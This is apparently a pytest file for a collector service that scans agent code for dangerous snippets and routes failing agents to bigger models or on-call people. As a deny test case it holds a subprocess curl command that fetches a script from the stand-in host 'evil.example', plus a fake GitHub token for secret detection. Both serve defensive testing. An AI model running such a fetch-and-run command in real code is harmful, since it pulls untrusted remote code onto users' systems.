"""`/v1/verdict` and `/v1/route` of a collector that really runs, and the guard that uses them."""

from __future__ import annotations

import asyncio
import gzip
import json
import signal
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from types import SimpleNamespace

import httpx
import plain_http
import pytest

from spanproof.collector.service import Collector
from spanproof.collector.verdicts.model import RouteRequest, SnippetJob
from spanproof.collector.verdicts.pool import ScanPool
from spanproof.collector.verdicts.router import Router
from spanproof.collector.verdicts.scanner import _with_scanner_time
from spanproof.config.model import ConfigError, load_config
from spanproof.config.verdicts import RouteRule, Verdicts
from spanproof.instrumentors.guard import CodeRefused, Guard
from spanproof.instrumentors.verdict_client import VerdictClient, VerdictUnavailable
from spanproof.sandbox.policy import Policy
from spanproof.store import FailRate

from .collectors import agent_request, metrics, post, running, serving

DENIED = "import subprocess\nsubprocess.run(['curl', 'http://evil.example/x.sh'])"
SPAN = {
    "traceId": "0af7651916cd43dd8448eb211c80319c",
    "spanId": "b7ad6b7169203331",
    "name": "step 1",
    "startTimeUnixNano": "1",
    "endTimeUnixNano": "2",
    "attributes": [
        {"key": "openinference.span.kind", "value": {"stringValue": "TOOL"}},
        {"key": "spanproof.code.source", "value": {"stringValue": DENIED}},
        {"key": "spanproof.code.language", "value": {"stringValue": "python"}},
    ],
}
RULE = {"name": "boundary", "layer": "boundary", "min_count": 1, "to_model": "bigger"}


@dataclass(frozen=True)
class Served:
    """A collector as its callers know it."""

    endpoints: SimpleNamespace


def ask(
    collector: Collector | Served, document: object, path: str = "verdict", **headers: str
) -> httpx.Response:
    url = f"{collector.endpoints.http}/v1/{path}"
    return plain_http.post(url, json=document, headers=headers, timeout=120)


@pytest.fixture(scope="module")
def verdicts(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("verdicts")
    more = {"verdicts__enabled": "true", "verdicts__max_bytes": "65536", "tokens": "[secret]"}
    routes = json.dumps([RULE | {"of": "trace"}])
    # In a process of its own: a process holds one embedded store, and some tests here open another.
    with serving(folder, verdicts__deadline_s="30", routes=routes, **more) as (_, listening):
        yield Served(SimpleNamespace(http=listening["http"]))


AUTH = {"authorization": "Bearer secret"}


def test_a_snippet_is_judged_with_its_findings(verdicts) -> None:
    allowed = ask(verdicts, {"code": "print(1)"}, **AUTH).json()
    assert (allowed["verdict"], allowed["findings"]) == ("allow", [])
    assert allowed["snippets"] == [{"span_id": None, "language": "python", "verdict": "allow"}]
    denied = ask(verdicts, {"code": DENIED, "language": "python", "subject": {"agent": "a"}}, **AUTH).json()
    assert denied["verdict"] == "deny"
    assert ("shell.network.host", 2) in {(each["rule"], each["line"]) for each in denied["findings"]}
    assert denied["findings"][0]["verdict"] == "deny"


def test_prose_is_judged_as_text(verdicts) -> None:
    key = "gh" + "p_" + "a8Xk29dLqPz0Wm3v7TnB5cR1yE4uHs6gJf2Q"
    answer = ask(verdicts, {"code": f"my key is {key}", "language": "text"}, **AUTH)
    assert answer.json()["verdict"] == "deny"
    assert key not in answer.text


def test_a_span_and_a_trace_are_judged_by_the_snippets_in_them(verdicts) -> None:
    by_span = ask(verdicts, {"span": SPAN}, **AUTH).json()
    whole = {"resourceSpans": [{"scopeSpans": [{"spans": [SPAN]}]}]}
    by_trace = ask(verdicts, {"trace": whole}, **AUTH).json()
    for answer in (by_span, by_trace):
        assert answer["verdict"] == "deny"
        assert answer["snippets"] == [{"span_id": SPAN["spanId"], "language": "python", "verdict": "deny"}]
        assert answer["findings"][0]["snippet"] == 0
    assert ask(verdicts, {"trace": {"resourceSpans": []}}, **AUTH).json()["verdict"] == "allow"


@pytest.mark.parametrize(
    ("body", "status", "says"),
    [
        pytest.param(b"{", 400, "body", id="no JSON"),
        pytest.param(b"{}", 400, "exactly one of code, span and trace", id="nothing to judge"),
        pytest.param(b'{"code": "1", "span": {}}', 400, "exactly one", id="two things"),
        pytest.param(
            b'{"code": "1", "subject": {"who": "x"}}', 400, "unknown name 'who'", id="unknown subject"
        ),
        pytest.param(b'{"source": "1"}', 400, "source", id="unknown field"),
        pytest.param(b'{"trace": {"resourceSpans": 3}}', 400, "resourceSpans", id="no trace"),
        pytest.param(json.dumps({"code": "x" * 70_000}).encode(), 413, "65536 bytes", id="too large"),
    ],
)
def test_what_cannot_be_judged_is_refused_with_its_reason(verdicts, body, status, says) -> None:
    url = f"{verdicts.endpoints.http}/v1/verdict"
    answer = plain_http.post(
        url, content=body, headers=AUTH | {"content-type": "application/json"}, timeout=120
    )
    assert (answer.status_code, says in answer.json()["message"]) == (status, True), answer.text


def test_a_body_that_unpacks_beyond_the_limit_is_refused(verdicts) -> None:
    packed = gzip.compress(b" " * 10_000_000)
    headers = AUTH | {"content-type": "application/json", "content-encoding": "gzip"}
    url = f"{verdicts.endpoints.http}/v1/verdict"
    assert plain_http.post(url, content=packed, headers=headers, timeout=120).status_code == 413


def test_a_request_without_the_token_or_as_a_form_is_refused(verdicts) -> None:
    assert ask(verdicts, {"code": "1"}).status_code == 401
    url = f"{verdicts.endpoints.http}/v1/verdict"
    # What a page of another site can send without the browser's questions first.
    simple = plain_http.post(
        url, content=b'{"code": "1"}', headers=AUTH | {"content-type": "text/plain"}, timeout=120
    )
    assert simple.status_code == 415


def test_where_others_reach_the_port_a_token_is_required(tmp_path) -> None:
    with running(tmp_path, verdicts__enabled="true", receivers__http__host="0.0.0.0") as collector:
        port = collector.endpoints.http.rpartition(":")[2]
        answer = plain_http.post(f"http://127.0.0.1:{port}/v1/verdict", json={"code": "1"}, timeout=120)
        assert (answer.status_code, "set `tokens`" in answer.json()["message"]) == (401, True)


def test_without_its_switch_there_is_no_such_path(tmp_path) -> None:
    with running(tmp_path) as collector:
        answer = ask(collector, {"code": "1"})
        assert (answer.status_code, "verdicts.enabled" in answer.json()["message"]) == (404, True)


def test_a_trace_without_verdicts_leads_nowhere(verdicts) -> None:
    request = {"agent": "a", "model": "small", "trace_id": f"{1:032x}"}
    assert ask(verdicts, request, "route", **AUTH).json()["action"] == "continue"
    assert ask(verdicts, {"agent": "a", "trace_id": "x"}, "route", **AUTH).status_code == 400


def test_requests_verdicts_and_their_time_are_counted(verdicts) -> None:
    ask(verdicts, {"code": "1"}, **AUTH)
    ask(verdicts, {"agent": "b"}, "route", **AUTH)
    page = metrics(verdicts)
    assert 'spanproof_verdicts_total{verdict="allow"}' in page
    assert 'spanproof_json_requests_total{kind="verdict",outcome="answered"}' in page
    assert 'spanproof_json_seconds_count{kind="verdict"}' in page
    assert 'spanproof_routes_total{action="continue",rule=""}' in page


async def test_a_scan_that_overruns_is_reviewed_and_the_next_one_is_scanned() -> None:
    pool = ScanPool(Verdicts(enabled=True, deadline_s=3), None)
    pool.open()
    try:
        pool._all[0]._process.send_signal(signal.SIGSTOP)
        slow = await pool.scan(SnippetJob("python", "print(1)"))
        assert (slow.verdict, slow.findings[0][1].rule) == ("review", "too-complex")
        assert "longer than verdicts.deadline_s" in slow.findings[0][1].message
        assert (await pool.scan(SnippetJob("python", "print(1)"))).verdict == "allow"
        # One that ended while it had nothing to do is replaced, and no code is blamed for it.
        pool._all[0]._process.kill()
        pool._all[0]._process.wait()
        assert (await pool.scan(SnippetJob("python", "print(1)"))).verdict == "allow"
    finally:
        pool.close()


@pytest.mark.parametrize(("given", "applied"), [(None, 1.0), (8.0, 1.0), (0.5, 0.5)])
def test_a_scanner_has_no_more_time_than_the_request_leaves_it(given, applied) -> None:
    assert _with_scanner_time(Policy(scanner_time_s=given), 1.0).scanner_time_s == applied


async def test_more_requests_than_there_is_room_for_are_refused() -> None:
    pool = ScanPool(Verdicts(enabled=True, deadline_s=3, max_waiting=2), None)
    pool.open()
    try:
        pool._all[0]._process.send_signal(signal.SIGSTOP)
        job = SnippetJob("python", "print(1)")
        results = await asyncio.gather(*(pool.scan(job) for _ in range(3)), return_exceptions=True)
        # The first overruns, the second has waited too long by then, the third finds no room.
        assert sorted(type(each).__name__ for each in results) == ["ScanFull", "ScanFull", "Scanned"]
    finally:
        pool.close()


class _Store:
    """Counts as a store does, and how often it was queried."""

    def __init__(self, failed: int, passed: int) -> None:
        self.rate = FailRate(passed, failed, 0, 0, 0)
        self.queries: list[dict[str, object]] = []

    def fail_rate(self, layer: object, **more: object) -> FailRate:
        self.queries.append({"layer": layer, **more})
        return self.rate


def _rule(**more: object) -> RouteRule:
    return RouteRule.model_validate(RULE | {"min_count": 10} | more)


@pytest.mark.parametrize(
    ("failed", "passed", "action"),
    [(2, 8, "model"), (1, 8, "continue"), (1, 9, "continue"), (0, 0, "continue"), (200, 800, "model")],
)
def test_an_agent_falls_back_at_the_threshold_and_with_enough_verdicts(failed, passed, action) -> None:
    store = _Store(failed, passed)
    route = Router([_rule()], lambda: store).find_route(RouteRequest(agent="a", model="small"))  # type: ignore[arg-type,return-value]
    assert (route.action, route.model) == (action, "bigger" if action == "model" else None)
    assert store.queries[0]["cohort"] == {"agent": "a", "model": "small"}


def test_an_agent_that_has_fallen_back_is_not_sent_there_again() -> None:
    rules = [_rule(), _rule(name="last", to_model=None, to_person="on call")]
    route = Router(rules, lambda: _Store(5, 5)).find_route(RouteRequest(agent="a", model="bigger"))  # type: ignore[arg-type,return-value]
    assert (route.action, route.person, route.rule) == ("person", "on call", "last")
    assert "5 of 10" in route.reason


def test_rates_are_kept_for_a_moment() -> None:
    store = _Store(5, 5)
    router = Router([_rule(agent="sql-*")], lambda: store)  # type: ignore[arg-type,return-value]
    for _ in range(50):
        router.find_route(RouteRequest(agent="sql-1"))
    router.find_route(RouteRequest(agent="other"))
    assert len(store.queries) == 1


@pytest.mark.parametrize(
    ("rule", "says"),
    [
        (RULE | {"to_person": "p"}, "exactly one"),
        (RULE | {"score": "security"}, "never fails a run"),
        (RULE | {"score": "scann"}, "did you mean boundary.scan"),
    ],
)
def test_a_rule_that_cannot_apply_is_refused(rule, says) -> None:
    with pytest.raises(ConfigError, match=says):
        load_config(None, {}, {"routes": json.dumps([rule])})
    assert load_config(None, {}, {"routes": json.dumps([RULE])}).warnings


def test_the_guard_lets_the_collector_scan_and_refuses_what_it_denies(verdicts, monkeypatch) -> None:
    monkeypatch.setenv("SPANPROOF_GUARD_ENDPOINT", verdicts.endpoints.http)
    monkeypatch.setenv("SPANPROOF_GUARD_TOKEN", "secret")
    guard = Guard(deadline_s=60)
    assert guard.check("print(1)").verdict == "allow"
    with pytest.raises(CodeRefused, match="line 2"):
        guard.check(DENIED, agent="a")
    # Neither too much code nor text that is no UTF-8 passes unjudged.
    open_guard = Guard(deadline_s=60, on_failure="allow")
    with pytest.raises(CodeRefused, match="larger than 65536"):
        open_guard.check(f"{'#' * 70_000}\n{DENIED}")
    with pytest.raises(CodeRefused, match="line 2"):
        open_guard.check(f"{DENIED}  # \ud800")


def test_without_a_verdict_the_guard_does_what_was_chosen(closed_port) -> None:
    endpoint = f"http://127.0.0.1:{closed_port}"
    assert Guard(endpoint=endpoint, on_failure="allow").check(DENIED).verdict == "allow"
    with pytest.raises(CodeRefused, match="no verdict"):
        Guard(endpoint=endpoint).check("print(1)")
    assert Guard(endpoint=endpoint, observe=True).check("print(1)").verdict == "deny"


@contextmanager
def dripping() -> Iterator[str]:
    """A server that sends a byte of its answer every now and then, and never its end."""
    ended = threading.Event()
    with socket.create_server(("127.0.0.1", 0)) as listening:

        def serve() -> None:
            connection, _ = listening.accept()
            with connection:
                connection.sendall(b"HTTP/1.1 200 OK\r\n")
                while not ended.wait(0.02):
                    try:
                        connection.sendall(b"x")
                    except OSError:
                        return

        thread = threading.Thread(target=serve)
        thread.start()
        try:
            yield f"http://127.0.0.1:{listening.getsockname()[1]}"
        finally:
            ended.set()
            thread.join()


def test_the_deadline_holds_against_a_server_that_drips() -> None:
    with dripping() as endpoint:
        began = time.monotonic()
        with pytest.raises(VerdictUnavailable, match=r"within 0\.3 s"):
            VerdictClient(endpoint, deadline_s=0.3).scan("print(1)", "python")
        assert time.monotonic() - began < 30


def test_a_connection_that_the_service_closed_is_replaced(verdicts) -> None:
    client = VerdictClient(verdicts.endpoints.http, token="secret", deadline_s=60)
    for _ in range(3):
        assert client.scan("print(1)", "python").verdict == "allow"
        owner, kept = client._kept.pop()
        kept.sock.shutdown(socket.SHUT_RDWR)
        client._kept.append((owner, kept))


@pytest.mark.parametrize(
    ("more", "says"),
    [
        ({"endpoint": "localhost"}, "no http"),
        ({"on_failure": "open"}, "choose"),
        ({"deadline_s": 0}, "above 0"),
    ],
)
def test_a_guard_that_cannot_work_is_refused(more, says) -> None:
    with pytest.raises(ValueError, match=says):
        Guard(**{"endpoint": "http://127.0.0.1:1", **more})


def test_a_client_gets_a_route(verdicts, make_request) -> None:
    post_with_token = plain_http.post(
        f"{verdicts.endpoints.http}/v1/traces",
        content=agent_request(make_request, (77, 1, None), (77, 2, 1)),
        headers=AUTH | {"content-type": "application/x-protobuf"},
        timeout=120,
    )
    assert post_with_token.status_code == 200
    client = VerdictClient(verdicts.endpoints.http, token="secret", deadline_s=60)
    assert client.route("a", model="m").action == "continue"
    with pytest.raises(VerdictUnavailable, match="401"):
        VerdictClient(verdicts.endpoints.http, deadline_s=60).route("a")


def test_an_agent_whose_runs_fail_is_led_to_a_person(tmp_path, make_request) -> None:
    rule = {"name": "weak", "layer": "correctness", "min_count": 1, "to_person": "on call", "window_s": 1e9}
    with running(tmp_path, verdicts__enabled="true", routes=json.dumps([rule])) as collector:
        body = agent_request(make_request, (5, 1, None), (5, 2, 1))
        body = body.replace(b"print(2 + 2)", b"print(2 + +)")
        post(collector, body)
        assert collector.evaluated.wait_for(1, 120)
        (run,) = collector.evaluated.latest[-1].runs
        labels = {score.name: score.outcome for score in run.scores if score.layer == "correctness"}
        route = ask(collector, {"agent": run.run.cohort.agent}, "route").json()
        assert labels["correctness"].label == "fail"
        assert (route["action"], route["person"], route["judged"]) == ("person", "on call", 1)
